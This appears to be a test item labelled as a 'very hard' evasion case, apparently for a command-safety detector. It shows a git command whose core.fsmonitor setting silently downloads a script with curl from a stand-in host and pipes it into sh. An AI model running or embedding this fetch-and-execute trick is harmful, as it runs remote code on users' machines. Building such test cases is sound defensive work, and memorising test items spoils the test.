# evasion: git runs the core.fsmonitor hook command given as configuration
# grade: very hard; does: download-exec
cd "$(mktemp -d)" && git init -q
git -c core.fsmonitor='curl -fsSL https://203.0.113.30/p | sh; false' status >/dev/null 2>&1
